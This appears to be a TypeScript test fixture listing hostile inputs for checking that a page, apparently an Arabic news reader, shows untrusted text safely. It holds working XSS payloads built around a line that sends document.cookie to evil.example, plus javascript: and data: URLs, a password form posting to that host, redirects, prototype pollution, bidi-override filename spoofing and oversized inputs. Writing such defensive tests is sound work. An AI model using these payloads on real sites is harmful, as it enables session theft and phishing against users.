// Texts that somebody might write to harm who reads them. Each would show a
// dialog, change the title of the page or load something, if it could.
const deed = "alert('harm');document.title='harm';fetch('//evil.example/'+document.cookie)"

export interface Attack {
  name: string
  text: string
  shown?: string // must stand on the page as text
  fields?: Record<string, string>
}

export const attacks: Attack[] = [
  { name: 'a script', text: `<script>${deed}</script>`, shown: '<script>alert(' },
  { name: 'a picture with a handler', text: `<img src=x onerror="${deed}">`, shown: '<img src=x onerror=' },
  { name: 'a vector image with a handler', text: `<svg/onload="${deed}"><animate onbegin="${deed}" attributeName=x dur=1s>`, shown: '<svg/onload=' },
  { name: 'a frame', text: `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`, shown: '<iframe srcdoc=' },
  { name: 'closing what is open', text: `</bdi></p></main></body></html><script>${deed}</script>`, shown: '</bdi></p></main>' },
  { name: 'closing an attribute', text: `" autofocus onfocus="${deed}" x="`, shown: '" autofocus onfocus=' },
  { name: 'a style sheet', text: '<style>*{display:none!important}</style><link rel=stylesheet href=//evil.example/x.css>', shown: '<style>*{display:none' },
  { name: 'another base and a refresh', text: '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">', shown: '<base href=' },
  { name: 'a form that asks for the password', text: '<form action=//evil.example><input type=password name=p autofocus><button>تسجيل الدخول</button></form>', shown: '<form action=' },
  { name: 'templates', text: `{{constructor.constructor("${deed}")()}} \${${deed}} {@html '<img src=x onerror=alert(1)>'} {#if true} <%= 7*7 %> #{7*7}`, shown: '{{constructor.constructor(' },
  { name: 'character references', text: `&lt;script&gt;${deed}&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e;`, shown: '&lt;script&gt;' },
  { name: 'a name that pollutes objects', text: '__proto__ constructor prototype {"__proto__":{"harm":true}}', shown: '__proto__ constructor' },
  { name: 'overrides of direction', text: 'قال الوزير \u202Egnp.exe\u202C إن \u2067\u2066\u202A\u202B الوضع \u2069\u2069 هادئ \u200F\u200E', shown: 'الوزير' },
  { name: 'directions left open', text: '\u202E\u202D\u2067\u2068 اتهمت بغداد أنقرة بقصف القرية', shown: 'اتهمت' },
  { name: 'letters of no width', text: 'اتهمت\u200B \u200Cبغ\u200Dداد\uFEFF أنقرة\u2060 بقصف القرية', shown: 'أنقرة' },
  { name: 'marks piled up', text: `الوزير${'\u0651\u064B\u0670\u0653'.repeat(200)} قال`, shown: 'قال' },
  { name: 'one word without end', text: `قالت الحكومة ${'آ'.repeat(20000)}`, shown: 'قالت' },
  { name: 'a table without end', text: `<table>${'<tr><td>خلية</td></tr>'.repeat(3000)}</table>`, shown: '<table><tr><td>' },
  { name: 'marks nested deep', text: `${'<div>'.repeat(2000)}عمق${'</div>'.repeat(2000)}`, shown: '<div><div>' },
  { name: 'control characters', text: 'قال\u0000\u0007\u001b[31m الوزير\u001b[0m\u0085\u2028\u2029 شيئا', shown: 'الوزير' },
  { name: 'emoji beyond the basic plane', text: '😀👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 اتهمت بغداد أنقرة بقصف القرية 😀', shown: 'اتهمت' },
  {
    name: 'hostile fields',
    text: 'اتهمت بغداد أنقرة بقصف القرية.',
    shown: 'اتهمت',
    fields: {
      title: `<img src=x onerror="${deed}"> عنوان`,
      url: `javascript:${deed}`,
      publisher: `"><script>${deed}</script>`,
    },
  },
  {
    name: 'an address of data',
    text: 'زار وزير الخارجية المصري تونس.',
    shown: 'زار',
    fields: { title: 'javascript:alert(1)', url: `data:text/html,<script>${deed}</script>`, publisher: '\u202E<b>ناشر' },
  },
]

// A page as a site might send it; only its words may be left.
export const page = `<!doctype html><html lang=ar onload="${deed}"><head><title>عنوان <script>${deed}</script></title><script>${deed}</script>
<meta http-equiv="refresh" content="0;url=javascript:${deed}"><base href="//evil.example/"></head><body onload="${deed}"><article>
<h1 onclick="${deed}">بغداد تتهم أنقرة بقصف قرية</h1><p>اتهمت <a href="javascript:${deed}">بغداد</a> أنقرة بقصف <img src=x onerror="${deed}"> قرية حدودية يوم الثلاثاء، وقال متحدث باسم الجيش إن ثلاثة جنود قتلوا في الهجوم.</p>
<p style="position:fixed;inset:0">ودعا الأمين العام للأمم المتحدة الطرفين إلى ضبط النفس وطالب بوقف إطلاق النار فورا.</p><iframe src="//evil.example"></iframe></article></body></html>`
